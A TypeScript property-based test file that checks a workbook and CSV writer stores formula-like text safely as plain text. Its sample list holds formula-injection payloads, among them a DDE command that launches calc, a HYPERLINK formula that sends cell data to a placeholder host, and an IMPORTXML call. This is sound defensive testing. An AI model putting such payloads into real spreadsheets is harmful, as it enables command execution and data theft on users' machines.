import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { bufferSource } from '@/lib/platform/files/byte-source'
import { type SheetRows, readWorkbook } from '@/lib/platform/workbook/read-workbook'
import { prepareSheet } from '@/lib/platform/workbook/sheet-spec'
import { getWorkbookBytes } from '@/lib/platform/workbook/write-workbook'
import { writeCsv } from '@/lib/platform/workbook/write-csv'

const KNOWN = [
  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u3000=1', '\u00a0=1', '＝1＋1', '＋1', '－1', '＠SUM', "'=1", "''=1", "'", '"=1"', '=cmd|\'/c calc\'!A0',
  '=HYPERLINK("http://x?"&A1,"点击")', '=IMPORTXML("http://x","//a")', '_x003D_1', '_x005F_', 'x\r\ny', 'a"b,c;d', ';=1', ',=1', '=\u200b1', '007', '1e5', '2026-03-01', 'TRUE', '#N/A', '甲',
]
const text = fc.oneof(
  fc.constantFrom(...KNOWN),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', "'", ' ', '　'), fc.string({ maxLength: 20 })).map(([first, rest]) => first + rest),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
)
// Characters XML does not know cannot be kept; they are tested apart.
const writable = text.filter((value) => value !== '' && !/[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|\p{Surrogate}/u.test(value))

const sheetOf = (texts: string[]) =>
  prepareSheet<string>({ name: '表', columns: [{ header: '编号', type: 'integer', value: () => 1 }, { header: '内容', type: 'text', value: (each) => each }], rows: texts })

async function readBack(bytes: Buffer, format: 'xlsx' | 'csv') {
  const pieces: SheetRows[] = []
  await readWorkbook(bufferSource(bytes), { format }, async (rows) => void pieces.push(rows))
  return pieces.flatMap((piece) => piece.rows.map((row) => row.cells[1])).slice(1)
}

describe('text that looks like a formula', () => {
  it('leaves a workbook as text, and comes back as it was', async () => {
    const texts = [...KNOWN, ...fc.sample(writable, 3000)]
    const bytes = await getWorkbookBytes([sheetOf(texts)])
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes.buffer as ArrayBuffer)
    let cellCount = 0
    workbook.worksheets[0]?.getColumn(2).eachCell((cell) => {
      cellCount += 1
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.numFmt).toBe('@')
    })
    expect(cellCount).toBe(texts.length + 1)
    expect(await readBack(bytes, 'xlsx')).toEqual(texts)
  })

  it('leaves a CSV file behind an apostrophe, and comes back as it was', async () => {
    const texts = [...KNOWN, ...fc.sample(writable, 3000)]
    let csv = ''
    for await (const line of writeCsv(sheetOf(texts))) csv += line
    const fields = [...csv.matchAll(/^1,"((?:[^"]|"")*)"\r$/gm)].map((match) => match[1] ?? '')
    expect(fields).toHaveLength(texts.length)
    for (const field of fields) expect(field).not.toMatch(/^[\s\u3000\u00a0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/)
    expect(await readBack(Buffer.from(csv), 'csv')).toEqual(texts)
  })

  it('loses nothing but what XML cannot hold', async () => {
    const bytes = await getWorkbookBytes([sheetOf(['a\0b\x0bc', '\ud800x', '正常'])])
    expect(await readBack(bytes, 'xlsx')).toEqual(['abc', 'x', '正常'])
  })
})
